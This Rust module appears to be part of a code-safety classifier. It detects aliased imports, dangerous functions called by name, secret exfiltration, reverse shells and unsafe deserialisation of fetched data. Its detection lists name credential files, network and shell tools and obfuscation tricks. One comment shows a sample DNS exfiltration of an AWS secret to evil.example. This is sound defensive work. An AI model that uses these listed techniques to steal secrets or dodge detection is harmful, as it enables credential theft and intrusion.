//! Calls made under another name: imports under an alias (`from os import remove as r`,
//! `import shutil as s`, `const f = require('fs')`), functions passed by their name as a string
//! (`array_map('unlink', …)`, `getattr(os, 'remove')`, `File.send(:delete, f)`), and secrets
//! read from their files and sent to the network (exfiltration).

use super::super::Ctx;
use super::lex::Lang;
use super::{CALLS, EXEC};
use crate::Effect::{Admin, Destructive, Mutating};

/// The code with every imported alias spelled as the name it stands for (`r(` becomes
/// `os.remove(`), so the call table finds it.
pub(super) fn expand(code: &str) -> String {
    expand_from(code, code)
}

/// `text` with the aliases that the imports of `src` define spelled out (`text` is `src`
/// with its strings blanked).
pub(super) fn expand_from(src: &str, text: &str) -> String {
    let code = text;
    let map = imports(src);
    if map.is_empty() {
        return code.to_string();
    }
    let mut out = String::with_capacity(code.len() + 32);
    let mut word = String::new();
    let mut prev = ' ';
    let flush = |word: &mut String, out: &mut String, prev: char| {
        if word.is_empty() {
            return;
        }
        match map.iter().find(|(alias, _)| alias == word) {
            Some((_, full)) if prev != '.' => out.push_str(full),
            _ => out.push_str(word),
        }
        word.clear();
    };
    let mut before = ' ';
    for c in code.chars() {
        if c.is_alphanumeric() || c == '_' || c == '$' {
            if word.is_empty() {
                before = prev;
            }
            word.push(c);
        } else {
            flush(&mut word, &mut out, before);
            out.push(c);
        }
        prev = c;
    }
    flush(&mut word, &mut out, before);
    out
}

/// Alias → full name, from Python and JavaScript import statements.
fn imports(code: &str) -> Vec<(String, String)> {
    let mut map: Vec<(String, String)> = Vec::new();
    let ident = |s: &str| {
        !s.is_empty()
            && s.chars()
                .all(|c| c.is_alphanumeric() || c == '_' || c == '$' || c == '.')
    };
    // `from os import (\n remove as r,\n)`: one statement across lines.
    let mut depth = 0usize;
    let joined: String = code
        .chars()
        .map(|c| {
            match c {
                '(' | '{' => depth += 1,
                ')' | '}' => depth = depth.saturating_sub(1),
                _ => {}
            }
            if c == '\n' && depth > 0 { ' ' } else { c }
        })
        .collect();
    for stmt in joined.split(['\n', ';']).map(str::trim) {
        if let Some(rest) = stmt.strip_prefix("import ") {
            // `import shutil as s, os.path as p`; `import * as f from 'fs'`.
            if let Some((names, module)) = rest.split_once(" from ") {
                js_import(names, module, &mut map);
                continue;
            }
            for part in rest.split(',') {
                if let Some((module, alias)) = part.split_once(" as ")
                    && ident(module.trim())
                    && ident(alias.trim())
                {
                    map.push((alias.trim().to_string(), module.trim().to_string()));
                }
            }
        } else if let Some(rest) = stmt.strip_prefix("from ") {
            let Some((module, names)) = rest.split_once(" import ") else {
                continue;
            };
            let module = module.trim();
            if !ident(module) {
                continue;
            }
            let names = names.trim().trim_matches(['(', ')']);
            if names.trim() == "*" {
                // Every dangerous function of the module becomes a bare name.
                for needle in CALLS.iter().map(|(n, _, _)| *n).chain(EXEC.iter().copied()) {
                    if let Some(f) = needle
                        .strip_prefix(module)
                        .and_then(|r| r.strip_prefix('.'))
                    {
                        let f = f.trim_end_matches(['(', ' ']);
                        if ident(f) && !f.contains('.') {
                            map.push((f.to_string(), format!("{module}.{f}")));
                        }
                    }
                }
                continue;
            }
            for part in names.split(',') {
                let (name, alias) = part.split_once(" as ").unwrap_or((part, part));
                let (name, alias) = (name.trim(), alias.trim());
                if ident(name) && ident(alias) {
                    map.push((alias.to_string(), format!("{module}.{name}")));
                }
            }
        } else if let Some((lhs, rhs)) = stmt.split_once('=') {
            // `const f = require('fs')`.
            let name = lhs
                .trim()
                .trim_start_matches("const ")
                .trim_start_matches("let ")
                .trim_start_matches("var ")
                .trim();
            let module = rhs
                .trim()
                .strip_prefix("require(")
                .and_then(|m| m.split_once(')'))
                .map(|(m, _)| js_module(m.trim_matches(['\'', '"', '`', ' '])));
            match module {
                Some(module) if ident(name) => map.push((name.to_string(), module)),
                // `const { rm, unlinkSync: del } = require('fs')`.
                Some(module) if name.starts_with('{') => {
                    for part in name.trim_matches(['{', '}', ' ']).split(',') {
                        let (n, alias) = part.split_once(':').unwrap_or((part, part));
                        let (n, alias) = (n.trim(), alias.trim());
                        if ident(n) && ident(alias) {
                            map.push((alias.to_string(), format!("{module}.{n}")));
                        }
                    }
                }
                _ => {}
            }
        }
    }
    map.retain(|(alias, full)| alias != full);
    map
}

/// `import { rm as r } from 'fs/promises'`, `import * as f from 'fs'`.
fn js_import(names: &str, module: &str, map: &mut Vec<(String, String)>) {
    let module = js_module(module.trim().trim_matches(['\'', '"', '`', ';', ' ']));
    let names = names.trim();
    if let Some(alias) = names.strip_prefix("* as ") {
        map.push((alias.trim().to_string(), module));
        return;
    }
    for part in names.trim_matches(['{', '}', ' ']).split(',') {
        let (name, alias) = part.split_once(" as ").unwrap_or((part, part));
        let (name, alias) = (name.trim(), alias.trim());
        if !name.is_empty() && !alias.is_empty() {
            map.push((alias.to_string(), format!("{module}.{name}")));
        }
    }
}

/// `node:fs/promises` is `fs.promises`.
fn js_module(m: &str) -> String {
    m.trim_start_matches("node:").replace('/', ".")
}

/// Function names that delete or run whatever they are given.
const DANGEROUS: &[&str] = &[
    "unlink",
    "rmdir",
    "rmtree",
    "removedirs",
    "ftruncate",
    "rm_rf",
    "rm_r",
    "unlinkSync",
    "rmSync",
    "rmdirSync",
    "RemoveAll",
    "shell_exec",
    "passthru",
    "proc_open",
    "popen",
    "pcntl_exec",
    "execSync",
    "spawnSync",
];

/// Names that only mean deletion or execution when a function is looked up by them.
const GENERIC: &[&str] = &[
    "remove", "delete", "truncate", "rm", "system", "exec", "eval", "spawn", "kill", "assert",
];

/// Calls that take a function by its name.
const BY_NAME: &[&str] = &[
    "getattr(",
    "send(",
    "public_send(",
    "__send__(",
    "method(",
    "call_user_func(",
    "call_user_func_array(",
    "array_map(",
    "array_walk(",
    "array_filter(",
    "register_shutdown_function(",
    "methodcaller(",
];

/// A dangerous function passed by its name (`array_map('unlink', glob(…))`).
pub(super) fn callables(ctx: &mut Ctx, code: &str) {
    let compact: String = code.chars().filter(|c| !c.is_whitespace()).collect();
    let name_of = |arg: &str| arg.trim_matches(['\'', '"', ':', '`']).to_string();
    let quoted = |arg: &str| arg.starts_with(['\'', '"', ':', '`']);
    let mut found: Option<String> = None;
    // An argument that is a quoted dangerous name, anywhere.
    for part in compact.split(['(', ',']).skip(1) {
        let arg = part.split([',', ')']).next().unwrap_or("");
        if quoted(arg) && DANGEROUS.contains(&name_of(arg).as_str()) {
            found = Some(format!("`{}`", name_of(arg)));
        }
    }
    // A generic name given to a call that looks functions up by name.
    for by in BY_NAME {
        for rest in compact.split(by).skip(1) {
            let args = rest.split(')').next().unwrap_or("");
            for arg in args.split(',').filter(|a| quoted(a)) {
                let n = name_of(arg);
                if GENERIC.contains(&n.as_str()) || DANGEROUS.contains(&n.as_str()) {
                    found = Some(format!("`{n}`"));
                }
            }
        }
    }
    // `getattr(os, 'rem' + 'ove')`, `File.send(name, f)`: a function of a module that deletes
    // or runs, chosen by a name built at run time.
    const MODULES: &[&str] = &[
        "os",
        "shutil",
        "subprocess",
        "pathlib",
        "fs",
        "File",
        "FileUtils",
        "Dir",
        "Kernel",
        "IO",
        "Process",
        "child_process",
        "fs.promises",
        "os.path",
        "Deno",
        "Bun",
        "ctypes",
        "posix",
        "nt",
    ];
    let map = imports(code);
    for by in ["getattr(", "send(", "public_send(", "__send__(", "method("] {
        for (i, _) in compact.match_indices(by) {
            let before = compact.get(..i).unwrap_or("");
            let receiver = before.strip_suffix('.').map(|b| {
                b.rsplit(|c: char| !(c.is_alphanumeric() || c == '_'))
                    .next()
                    .unwrap_or("")
            });
            let args: Vec<&str> = compact
                .get(i + by.len()..)
                .and_then(|r| r.split(')').next())
                .unwrap_or("")
                .split(',')
                .collect();
            let (module, name) = match receiver {
                Some(r) => (r, args.first().copied().unwrap_or("")),
                None => (
                    args.first().copied().unwrap_or(""),
                    args.get(1).copied().unwrap_or(""),
                ),
            };
            let plain = quoted(name)
                && name_of(name)
                    .chars()
                    .all(|c| c.is_alphanumeric() || c == '_');
            let real = resolve(&map, module);
            if MODULES.contains(&real) && !plain && found.is_none() {
                found = Some(format!("a name built at run time on `{real}`"));
            }
        }
    }
    // `fs['rm' + 'Sync'](p)`, `s[name](p)`: a member of such a module chosen by a computed
    // key; a plain key that deletes or runs (`fs['rmSync']`) is that call.
    for (i, _) in compact.match_indices('[') {
        if found.is_some() {
            break;
        }
        let before = compact.get(..i).unwrap_or("");
        let receiver = before
            .rsplit(|c: char| !(c.is_alphanumeric() || c == '_' || c == '$'))
            .next()
            .unwrap_or("");
        let real = resolve(&map, receiver);
        let bound = map.iter().any(|(a, _)| a == receiver) || matches!(receiver, "Deno" | "Bun");
        if receiver.is_empty() || !bound || !MODULES.contains(&real) {
            continue;
        }
        let key = compact
            .get(i + 1..)
            .and_then(|r| r.split(']').next())
            .unwrap_or("");
        let plain = quoted(key)
            && name_of(key)
                .chars()
                .all(|c| c.is_alphanumeric() || c == '_');
        let bad = !plain
            || DANGEROUS.contains(&name_of(key).as_str())
            || GENERIC.contains(&name_of(key).as_str())
            || super::effects::verb(&name_of(key), &[]).is_some();
        if bad {
            found = Some(format!("a member of `{real}` chosen by `[{key}]`"));
        }
    }
    if let Some(n) = found {
        ctx.add(
            Destructive,
            format!("code: calls {n} by name: a function that deletes or runs what it is given"),
        );
    }
}

/// The module an import alias stands for (`s` for `import shutil as s`,
/// `fs` for `const fs = require('fs')`), or the name itself.
fn resolve<'a>(map: &'a [(String, String)], name: &'a str) -> &'a str {
    map.iter()
        .find(|(a, _)| a == name)
        .map_or(name, |(_, full)| full.as_str())
}

/// Files that hold credentials or keys.
fn secret_path(lit: &str) -> bool {
    let p = lit.to_ascii_lowercase().replace('\\', "/");
    let name = p.rsplit('/').next().unwrap_or(&p);
    [
        ".aws/credentials",
        ".aws/config",
        ".ssh/id_",
        ".netrc",
        ".git-credentials",
        ".pgpass",
        ".kube/config",
        ".docker/config.json",
        "/etc/shadow",
        ".npmrc",
        ".pypirc",
        ".gnupg",
        ".config/gcloud",
        ".azure/",
        "credentials.json",
        "service-account",
    ]
    .iter()
    .any(|s| p.contains(s))
        || name == ".env"
        || name.starts_with(".env.")
        || name.starts_with("id_rsa")
        || name.starts_with("id_ed25519")
        || name.starts_with("id_ecdsa")
        || name.ends_with(".pem")
        || name.ends_with(".key")
        || matches!(name, ".ssh" | ".aws" | ".gnupg" | ".kube")
}

/// Calls and modules that send data out.
const NETWORK: &[&str] = &[
    "requests.",
    "urllib",
    "httpx",
    "http.client",
    "aiohttp",
    "socket",
    "smtplib",
    "ftplib",
    "paramiko",
    "boto3",
    "fetch(",
    "axios",
    "XMLHttpRequest",
    "http.request",
    "https.request",
    "http.get(",
    "https.get(",
    "require('http",
    "require(\"http",
    "node:http",
    "http.Post",
    "http.NewRequest",
    "net.Dial",
    "Net::HTTP",
    "HTTParty",
    "Faraday",
    "curl_",
    "LWP",
    "HTTP::Tiny",
    "WebClient",
    "HttpClient",
    "Invoke-WebRequest",
    "Invoke-RestMethod",
    "WebSocket",
    "navigator.sendBeacon",
    "curl",
    "wget",
    "scp",
    "nc ",
    // PHP's file functions open URLs; a browser opened on a URL requests it.
    "file_get_contents(\"http",
    "file_get_contents('http",
    "fopen(\"http",
    "fopen('http",
    "webbrowser.",
    // Readers that take a URL (`pd.read_csv('https://…?k=' + …)`).
    "read_csv(",
    "read_json(",
    "read_html(",
];

/// Name lookups: a secret put into the name leaves in the DNS query.
const DNS_LOOKUPS: &[&str] = &[
    "gethostbyname",
    "getaddrinfo",
    "dns.lookup",
    "dns.resolve",
    "dns\").lookup",
    "dns').lookup",
    "dns\").resolve",
    "dns').resolve",
    "dns.promises",
    "dns.resolver",
    "Resolv",
    "net.LookupHost",
    "net.LookupIP",
    "Dns.GetHostEntry",
    "Dns.GetHostAddresses",
    "Resolve-DnsName",
    "nslookup",
];

/// The whole environment turned into data (it holds every token the process has).
const ENV_DUMPS: &[&str] = &[
    "dict(os.environ)",
    "os.environ.copy()",
    "json.dumps(os.environ",
    "str(os.environ)",
    "{**os.environ}",
    "stringify(process.env)",
    "ENV.to_h",
    "ENV.to_hash",
    "getenv()",
    "$_ENV",
    "Get-ChildItemEnv:",
];

/// Code that reads a secret file and can send it over the network: exfiltration (admin).
pub(super) fn exfiltration(ctx: &mut Ctx, code: &str) {
    let compact: String = code.chars().filter(|c| !c.is_whitespace()).collect();
    let secret = super::literals(code)
        .into_iter()
        .find(|l| secret_path(l))
        .or_else(|| {
            ENV_DUMPS
                .iter()
                .find(|d| compact.contains(*d))
                .map(|d| format!("the environment ({d})"))
        });
    let secret = secret.or_else(|| secret_env_read(code));
    // `socket.gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'] + '.evil.example')`.
    if secret.is_none()
        && DNS_LOOKUPS.iter().any(|d| code.contains(d))
        && let Some(var) = crate::classify::content::catalogue::environment_in_code(code)
    {
        ctx.add(
            Admin,
            format!("code: reads `{var}` and looks up names (a secret can leave in a DNS query)"),
        );
        return;
    }
    let Some(secret) = secret else {
        return;
    };
    if NETWORK.iter().any(|n| code.contains(n)) || DNS_LOOKUPS.iter().any(|d| code.contains(d)) {
        ctx.add(
            Admin,
            format!(
                "code: reads `{}` and sends data over the network (exfiltration of secrets)",
                super::super::prefix(&secret, 80)
            ),
        );
    }
}

/// A secret variable read from the environment by name (`process.env.NPM_TOKEN`,
/// `os.environ["AWS_SECRET_ACCESS_KEY"]`, `os.getenv('DB_PASSWORD')`, `ENV['GITHUB_TOKEN']`,
/// `$ENV{API_KEY}`) and written into a query parameter (`'…?t=' + process.env.NPM_TOKEN`,
/// `` `…?t=${process.env.T}` ``, `f"…?t={os.environ['T']}"`), as `env.NAME`. A token put in
/// a header or given as an argument is how APIs are called, and is not counted.
fn secret_env_read(code: &str) -> Option<String> {
    const READS: &[&str] = &[
        "env.",
        "env[",
        "environ[",
        "environ.get(",
        "getenv(",
        "ENV[",
        "ENV{",
        "env.get(",
    ];
    for read in READS {
        for (at, _) in code.match_indices(read) {
            // What precedes the expression (`process.env.X` starts at `process`), through
            // calls that wrap it (`encodeURIComponent(process.env.X)`).
            let before = code.get(..at).unwrap_or_default();
            let start = before
                .trim_end_matches(|c: char| {
                    c.is_ascii_alphanumeric()
                        || c.is_whitespace()
                        || matches!(c, '_' | '.' | '$' | '(')
                })
                .chars()
                .filter(|c| !c.is_whitespace())
                .collect::<String>();
            let into_parameter = ["='+", "=\"+", "=`+", "=${", "={"]
                .iter()
                .any(|p| start.ends_with(p));
            if !into_parameter {
                continue;
            }
            let rest = code.get(at + read.len()..).unwrap_or_default();
            let name: String = rest
                .trim_start_matches(['"', '\'', ' '])
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                .collect();
            // An API key in a query string is how some APIs are called (`?key=` of a maps
            // API); a token, secret or password is not.
            let upper = name.to_ascii_uppercase();
            let api_key = upper.ends_with("API_KEY") || upper.ends_with("APIKEY");
            if !name.is_empty() && !api_key && super::super::args::secret_variable(&name) {
                return Some(format!("env.{name}"));
            }
        }
    }
    None
}

/// A connection opened out of the process (a socket, not an HTTP client).
const SOCKETS: &[&str] = &[
    "socket.socket(",
    "socket.create_connection(",
    "net.connect(",
    "net.createConnection(",
    "new net.Socket(",
    "net.Dial(",
    "TCPSocket.new(",
    "TCPSocket.open(",
    "IO::Socket::INET",
    "socket(S,",
    "fsockopen(",
    "Net.Sockets.TCPClient",
    "/dev/tcp/",
];

/// Wiring a program's standard streams to something else.
const WIRING: &[&str] = &[
    "dup2(",
    ".pipe(",
    "pty.spawn(",
    "fileno()",
    "stdin=",
    "stdout=",
    ".stdin.",
    "<&",
    "open(STDIN",
    "proc_open(",
    "GetStream()",
];

/// Shells, as code names them.
const SHELLS: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "/bin/zsh",
    "\"sh\"",
    "'sh'",
    "\"bash\"",
    "'bash'",
    "cmd.exe",
    "powershell",
];

/// Code that connects out and wires a shell to the connection: a reverse shell (admin).
pub(super) fn reverse_shell(ctx: &mut Ctx, code: &str) {
    // Every socket needle holds one of these words, which whitespace cannot split: most code
    // is ruled out without a copy.
    if ![
        "socket",
        "Socket",
        "sockopen",
        "net.",
        "Dial",
        "/dev/tcp",
        "TCPClient",
    ]
    .iter()
    .any(|w| code.contains(w))
    {
        return;
    }
    // The needles have no whitespace; the code's is removed (`s.connect (…)`).
    let compact: String = code.chars().filter(|c| !c.is_whitespace()).collect();
    let has = |list: &[&str]| list.iter().any(|n| compact.contains(n));
    if has(SOCKETS) && has(WIRING) && has(SHELLS) {
        ctx.add(
            Admin,
            "code: connects out and wires a shell to the connection (a reverse shell)",
        );
    }
}

/// Downloads and the calls that turn bytes into objects by running code (`pickle.loads`,
/// `yaml.load` without a safe loader).
const FETCHES: &[&str] = &[
    "urlopen(",
    "requests.get(",
    "requests.post(",
    "requests.request(",
    "httpx.",
    "aiohttp",
    ".recv(",
    "urllib",
    "http.client",
    "fetch(",
    "axios",
    "boto3",
    ".download",
];
const DESERIALISERS: &[&str] = &[
    "pickle.load",
    "cPickle.load",
    "cloudpickle.load",
    "dill.load",
    "marshal.load",
    "joblib.load(",
    "shelve.open(",
    "yaml.unsafe_load(",
    "yaml.full_load(",
    "Marshal.load(",
    "unserialize(",
    "node-serialize",
    "ObjectInputStream",
    "BinaryFormatter",
    "torch.load(",
];

/// Code that deserialises data fetched from the network: unpickling runs whatever code the
/// sender chose (admin).
pub(super) fn fetched_deserialise(ctx: &mut Ctx, code: &str) {
    let compact: String = code.chars().filter(|c| !c.is_whitespace()).collect();
    // The loader is judged on the call's line (its argument may hold parentheses).
    let unsafe_yaml = code.lines().any(|line| {
        line.contains("yaml.load(")
            && !["SafeLoader", "BaseLoader"]
                .iter()
                .any(|l| line.contains(l))
    });
    let Some(d) = DESERIALISERS
        .iter()
        .find(|d| compact.contains(*d))
        .copied()
        .or(unsafe_yaml.then_some("yaml.load"))
    else {
        return;
    };
    if FETCHES.iter().any(|f| compact.contains(f)) {
        ctx.add(
            Admin,
            format!(
                "code: `{}` deserialises data fetched from the network (runs the sender's code)",
                d.trim_end_matches('(')
            ),
        );
    }
}

/// True if an argument (text up to `close`) is not one plain string literal.
fn computed_arg(rest: &str, close: char) -> bool {
    let arg = rest.split(close).next().unwrap_or("");
    let mut chars = arg.chars();
    let plain = match (chars.next(), arg.chars().last()) {
        (Some(q @ ('\'' | '"' | '`')), Some(e)) if q == e && arg.len() >= 2 => {
            let inner = arg.get(1..arg.len() - 1).unwrap_or("");
            !inner.contains(['\'', '"', '`', '+']) && !inner.contains("${")
        }
        _ => false,
    };
    !plain
}

/// A name looked up at run time among the builtins or modules
/// (`__builtins__.__dict__['ev' + 'al']`, `require('child_' + 'process')`): never read, and
/// destructive where it reaches eval or a process.
pub(super) fn computed_builtins(ctx: &mut Ctx, lang: Lang, code: &str) {
    let compact: String = code.chars().filter(|c| !c.is_whitespace()).collect();
    const PY: &[(&str, char)] = &[
        ("__builtins__.__dict__[", ']'),
        ("__builtins__[", ']'),
        ("builtins.__dict__[", ']'),
        ("vars(__builtins__)[", ']'),
        ("getattr(__builtins__,", ')'),
        ("getattr(builtins,", ')'),
        ("getattr(os,", ')'),
        ("getattr(subprocess,", ')'),
        ("getattr(shutil,", ')'),
        ("globals()[", ']'),
        ("locals()[", ']'),
        ("__import__(", ')'),
        ("importlib.import_module(", ')'),
    ];
    const JS: &[(&str, char)] = &[
        ("require(", ')'),
        ("import(", ')'),
        ("globalThis[", ']'),
        ("global[", ']'),
        ("process.binding(", ')'),
        ("process.mainModule.require(", ')'),
    ];
    let computed = |list: &'static [(&'static str, char)]| {
        list.iter().find(|(open, close)| {
            compact
                .split(open)
                .skip(1)
                .any(|rest| computed_arg(rest, *close))
        })
    };
    let py = matches!(lang, Lang::Python | Lang::Other);
    let js = matches!(lang, Lang::Js | Lang::Other);
    // `globals()['__builtins__'].__dict__[name]`: any object's dictionary, once builtins
    // are named.
    let builtins_dict = compact.contains("builtins")
        && compact
            .split(".__dict__[")
            .skip(1)
            .any(|rest| computed_arg(rest, ']'));
    if py && builtins_dict {
        ctx.add(
            Destructive,
            "code: `__builtins__` reached through `__dict__[…]` by a name computed at run time",
        );
    }
    if let Some((open, _)) = computed(PY).filter(|_| py) {
        ctx.add(
            Destructive,
            format!("code: `{open}…]` looks up a builtin or module by a name computed at run time"),
        );
    }
    if let Some((open, _)) = computed(JS).filter(|_| js) {
        let runs = ["exec", "spawn", "fork", "](", "eval", "Function("]
            .iter()
            .any(|x| compact.contains(x));
        ctx.add(
            if runs { Destructive } else { Mutating },
            format!("code: `{open}…)` loads a module whose name is computed at run time"),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn aliases_are_spelled_out() {
        assert!(expand("from os import remove as r\nr('x')").contains("os.remove('x')"));
        assert!(expand("import shutil as s; s.rmtree('x')").contains("shutil.rmtree('x')"));
        assert!(expand("from os import *\nremove('x')").contains("os.remove('x')"));
        assert!(expand("import * as f from 'fs'; f.rm('x')").contains("fs.rm('x')"));
        // A method of another object named like the alias is not the alias.
        assert!(expand("import shutil as s\nx.s('y')").contains("x.s('y')"));
        // No import, no change.
        assert_eq!(expand("r('x')"), "r('x')");
    }

    #[test]
    fn secrets_are_exact() {
        for p in [
            "~/.aws/credentials",
            "/home/a/.ssh/id_rsa",
            ".env",
            "app/.env.production",
        ] {
            assert!(secret_path(p), "{p}");
        }
        for p in ["os.environ", "environment.yml", "README.md", "src/env.rs"] {
            assert!(!secret_path(p), "{p}");
        }
    }
}
